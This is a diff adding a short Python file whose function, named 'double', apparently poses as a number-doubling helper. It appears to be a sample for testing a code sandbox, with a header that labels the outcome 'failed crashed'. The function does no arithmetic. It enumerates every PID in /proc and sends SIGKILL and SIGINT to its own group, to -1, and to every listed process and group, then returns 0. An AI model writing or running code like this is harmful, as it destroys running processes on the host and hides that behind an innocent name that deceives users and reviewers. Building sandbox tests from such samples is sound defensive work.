@@ -1,0 +1,14 @@
+# Kills its group, and every process it may signal, all at once and one by one | failed crashed
+import os
+import signal
+
+
+def double(number):
+    others = [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]
+    for whom in (0, -1, -os.getpgrp(), *others, *[-other for other in others]):
+        for name in (signal.SIGKILL, signal.SIGINT):
+            try:
+                os.kill(whom, name)
+            except OSError:
+                continue
+    return 0
